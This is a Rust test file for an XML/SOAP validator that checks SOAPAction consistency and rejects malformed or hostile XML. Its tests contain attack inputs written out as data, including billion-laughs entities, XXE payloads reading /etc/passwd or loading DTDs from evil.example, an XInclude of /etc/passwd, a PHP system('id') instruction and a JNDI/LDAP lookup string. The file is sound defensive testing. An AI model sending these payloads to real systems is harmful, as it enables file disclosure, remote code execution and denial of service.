use super::*;

fn run(body: &str) -> Result<XmlDocument, XmlViolation> {
    check(body.as_bytes(), &XmlLimits::default())
}

fn rule(body: &str) -> &'static str {
    match run(body) {
        Ok(_) => "ok",
        Err(v) => v.rule(),
    }
}

fn values(doc: &XmlDocument) -> Vec<(String, String)> {
    doc.values()
        .map(|(l, v)| (l.to_string(), v.to_string()))
        .collect()
}

const SOAP11: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
               xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <soap:Header>
    <Auth xmlns="http://tempuri.org/"><Token>abc</Token></Auth>
  </soap:Header>
  <soap:Body>
    <!-- a comment -->
    <GetUser xmlns="http://tempuri.org/" id="42">
      <name>O&apos;Brien &amp; &#x4A;o</name>
      <note><![CDATA[<b>bold</b>]]></note>
    </GetUser>
  </soap:Body>
</soap:Envelope>"#;

const SOAP12: &str = r#"<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope">
  <env:Body>
    <m:GetQuote xmlns:m="urn:example:stocks"><m:symbol>ACME</m:symbol></m:GetQuote>
  </env:Body>
</env:Envelope>"#;

#[test]
fn soap11_request_passes() {
    let doc = run(SOAP11).unwrap();
    assert_eq!(doc.soap_version(), Some(SoapVersion::Soap11));
    assert_eq!(doc.root(), "Envelope");
    assert_eq!(doc.soap_operation().as_deref(), Some("GetUser"));
    assert_eq!(doc.soap_operation_namespace(), Some("http://tempuri.org/"));
    let v = values(&doc);
    assert!(v.contains(&("xml:/Envelope/Header/Auth/Token".into(), "abc".into())));
    assert!(v.contains(&("xml:/Envelope/Body/GetUser/@id".into(), "42".into())));
    assert!(v.contains(&(
        "xml:/Envelope/Body/GetUser/name".into(),
        "O'Brien & Jo".into()
    )));
    assert!(v.contains(&(
        "xml:/Envelope/Body/GetUser/note".into(),
        "<b>bold</b>".into()
    )));
    // Namespace declarations are not values.
    assert!(
        v.iter()
            .all(|(l, _)| !l.contains("@xmlns") && !l.contains("@soap"))
    );

    let ct = "text/xml; charset=utf-8";
    assert!(soap_action_consistent(
        Some("\"http://tempuri.org/GetUser\""),
        ct,
        &doc
    ));
    assert!(soap_action_consistent(
        Some("http://tempuri.org/IUsers/GetUser"),
        ct,
        &doc
    ));
    assert!(soap_action_consistent(Some("urn:users#GetUser"), ct, &doc));
    assert!(soap_action_consistent(Some("\"\""), ct, &doc));
    assert!(soap_action_consistent(None, ct, &doc));
    assert!(!soap_action_consistent(
        Some("http://tempuri.org/DeleteUser"),
        ct,
        &doc
    ));
    assert!(!soap_action_consistent(
        Some("http://tempuri.org/getuser"),
        ct,
        &doc
    ));
}

#[test]
fn soap12_request_passes() {
    let doc = run(SOAP12).unwrap();
    assert_eq!(doc.soap_version(), Some(SoapVersion::Soap12));
    assert_eq!(doc.soap_operation().as_deref(), Some("GetQuote"));
    assert_eq!(doc.soap_operation_namespace(), Some("urn:example:stocks"));
    assert!(values(&doc).contains(&("xml:/Envelope/Body/GetQuote/symbol".into(), "ACME".into())));
    let ok = "application/soap+xml; charset=utf-8; action=\"urn:example:stocks:GetQuote\"";
    assert!(soap_action_consistent(None, ok, &doc));
    let bad = "application/soap+xml; action=\"urn:example:stocks#DeleteAll\"";
    assert!(!soap_action_consistent(None, bad, &doc));
    // The content type's action wins over a header.
    assert!(!soap_action_consistent(Some("GetQuote"), bad, &doc));
    assert!(soap_action_consistent(None, "application/soap+xml", &doc));
}

#[test]
fn request_suffix_and_non_soap_documents() {
    let doc = run(
        r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><GetUserRequest/></s:Body></s:Envelope>"#,
    )
    .unwrap();
    assert_eq!(doc.soap_operation().as_deref(), Some("GetUserRequest"));
    assert!(soap_action_consistent(
        Some("urn:x/GetUser"),
        "text/xml",
        &doc
    ));
    // Not SOAP: an Envelope in another namespace has no operation.
    let doc = run(r#"<Envelope><Body><Op/></Body></Envelope>"#).unwrap();
    assert_eq!(doc.soap_version(), None);
    assert_eq!(doc.soap_operation(), None);
    assert!(soap_action_consistent(None, "text/xml", &doc));
    assert!(!soap_action_consistent(Some("urn:x/Op"), "text/xml", &doc));
    // Only the first element of Body, not a nested one.
    let doc = run(
        r#"<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header><A/></s:Header><s:Body><First><Inner/></First><Second/></s:Body></s:Envelope>"#,
    )
    .unwrap();
    assert_eq!(doc.soap_operation().as_deref(), Some("First"));
}

#[test]
fn billion_laughs_is_refused() {
    let mut body =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        body.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    body.push_str("]>\n<lolz>&lol9;</lolz>");
    assert_eq!(run(&body), Err(XmlViolation::Doctype));
}

#[test]
fn xxe_is_refused() {
    let external = r#"<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>"#;
    assert_eq!(rule(external), "doctype");
    let parameter =
        r#"<!DOCTYPE foo [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]><foo/>"#;
    assert_eq!(rule(parameter), "doctype");
    let public = r#"<!DOCTYPE foo PUBLIC "-//X//EN" "http://evil.example/x.dtd"><foo/>"#;
    assert_eq!(rule(public), "doctype");
    // Without a DOCTYPE, an entity reference is undeclared.
    assert_eq!(rule("<foo>&xxe;</foo>"), "syntax");
    assert_eq!(rule(r#"<foo a="&xxe;"/>"#), "syntax");
}

#[test]
fn xinclude_is_refused() {
    let body = r#"<doc xmlns:xi="http://www.w3.org/2001/XInclude">
  <xi:include href="file:///etc/passwd" parse="text"/>
</doc>"#;
    assert_eq!(run(body), Err(XmlViolation::XInclude));
    // The same local name in another namespace is fine.
    assert_eq!(
        rule(r#"<doc xmlns:a="urn:a"><a:include href="x"/></doc>"#),
        "ok"
    );
}

#[test]
fn processing_instructions_are_refused() {
    let body = r#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>"#;
    assert_eq!(rule(body), "processing_instruction");
    assert_eq!(
        rule("<a><?php system('id'); ?></a>"),
        "processing_instruction"
    );
    // The declaration is fine at the start only.
    assert_eq!(rule("<?xml version=\"1.0\"?><a/>"), "ok");
    assert_eq!(rule("<a/><?xml version=\"1.0\"?>"), "syntax");
    assert_eq!(rule(" <?xml version=\"1.0\"?><a/>"), "syntax");
}

#[test]
fn deep_nesting_is_refused() {
    let deep = format!("{}{}", "<a>".repeat(33), "</a>".repeat(33));
    assert_eq!(run(&deep), Err(XmlViolation::MaxDepth { limit: 32 }));
    let ok = format!("{}{}", "<a>".repeat(32), "</a>".repeat(32));
    assert_eq!(rule(&ok), "ok");
    // Very deep and unclosed: refused at the limit, no recursion.
    let huge = "<a>".repeat(100_000);
    assert_eq!(rule(&huge), "max_bytes");
    let limits = XmlLimits {
        max_bytes: 1 << 20,
        ..XmlLimits::default()
    };
    assert_eq!(
        check(huge.as_bytes(), &limits).unwrap_err().rule(),
        "max_depth"
    );
}

#[test]
fn attribute_flood_is_refused() {
    let attrs: String = (0..51).map(|i| format!(" a{i}=\"v\"")).collect();
    assert_eq!(
        run(&format!("<e{attrs}/>")),
        Err(XmlViolation::MaxAttributes { limit: 50 })
    );
    let attrs: String = (0..50).map(|i| format!(" a{i}=\"v\"")).collect();
    assert_eq!(rule(&format!("<e{attrs}/>")), "ok");
    // Duplicates are not well-formed.
    assert_eq!(rule(r#"<e a="1" a="2"/>"#), "syntax");
}

#[test]
fn child_flood_is_refused() {
    let limits = XmlLimits {
        max_children: 100,
        ..XmlLimits::default()
    };
    let body = format!("<r>{}</r>", "<c/>".repeat(101));
    assert_eq!(
        check(body.as_bytes(), &limits),
        Err(XmlViolation::MaxChildren { limit: 100 })
    );
    let body = format!("<r>{}</r>", "<c/>".repeat(100));
    assert!(check(body.as_bytes(), &limits).is_ok());
}

#[test]
fn oversized_text_and_body_are_refused() {
    let body = format!("<a>{}</a>", "x".repeat(64 * 1024 + 1));
    assert_eq!(run(&body), Err(XmlViolation::MaxTextBytes { limit: 65536 }));
    // Pieces of one text node add up.
    let body = format!("<a>{}</a>", "xxxxxxx&amp;".repeat(9000));
    assert_eq!(rule(&body), "max_text_bytes");
    let body = format!("<a b=\"{}\"/>", "x".repeat(64 * 1024 + 1));
    assert_eq!(rule(&body), "max_text_bytes");
    let body = format!("<a>{}</a>", "<b>x</b>".repeat(40_000));
    assert_eq!(
        run(&body),
        Err(XmlViolation::MaxBytes { limit: 256 * 1024 })
    );
}

#[test]
fn malformed_documents_are_refused() {
    for body in [
        "<a><b></a></b>",
        "<a>",
        "<a></a><b></b>",
        "text<a/>",
        "<a/>text",
        "",
        "   ",
        "<a>\u{1}</a>",
        "<a b=\"\u{1}\"/>",
        "<a>&#0;</a>",
        "<a>&#x1;</a>",
        "<a>&#xD800;</a>",
        "<a>& b</a>",
        "<a><!-- a -- b --></a>",
        "<p:a/>",
        "</a>",
        "<a><![CDATA[x</a>",
    ] {
        assert_eq!(rule(body), "syntax", "{body:?}");
    }
    assert_eq!(
        check(
            &[b'<', b'a', b'>', 0xff, b'<', b'/', b'a', b'>'],
            &XmlLimits::default()
        )
        .unwrap_err()
        .rule(),
        "encoding"
    );
    assert_eq!(
        rule("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a/>"),
        "encoding"
    );
    assert_eq!(
        check(b"\xEF\xBB\xBF<a/>", &XmlLimits::default())
            .unwrap()
            .root(),
        "a"
    );
}

#[test]
fn namespaces_are_handled() {
    let body = r#"<r:root xmlns:r="urn:r" xmlns="urn:default" xmlns:x="urn:x">
  <child x:attr="1">t</child>
  <x:other>u</x:other>
</r:root>"#;
    let doc = run(body).unwrap();
    assert_eq!(doc.root(), "root");
    assert_eq!(doc.root_namespace(), Some("urn:r"));
    let v = values(&doc);
    assert!(v.contains(&("xml:/root/child/@attr".into(), "1".into())));
    assert!(v.contains(&("xml:/root/child".into(), "t".into())));
    assert!(v.contains(&("xml:/root/other".into(), "u".into())));
    // A prefix rebound out of scope is unknown again.
    assert_eq!(rule(r#"<a><b xmlns:p="urn:p"/><p:c/></a>"#), "syntax");
}

#[test]
fn inspect_finds_attacks_in_xml_values() {
    let inspector = Inspector::new(crate::InspectOptions::default());
    let doc = run("<a><b>${jndi:ldap://evil.example/a}</b></a>").unwrap();
    let mut report = Report::default();
    doc.inspect(&inspector, &mut report);
    assert!(inspector.blocks(&report), "{report:?}");
    assert_eq!(report.findings()[0].location.to_string(), "xml:/a/b");
}

#[test]
fn violations_display_no_user_data() {
    for v in [
        XmlViolation::Syntax,
        XmlViolation::Doctype,
        XmlViolation::MaxDepth { limit: 3 },
    ] {
        assert!(!v.to_string().is_empty());
    }
    let v = run("<secret>&unknown;</secret>").unwrap_err();
    assert!(!v.to_string().contains("unknown"));
}
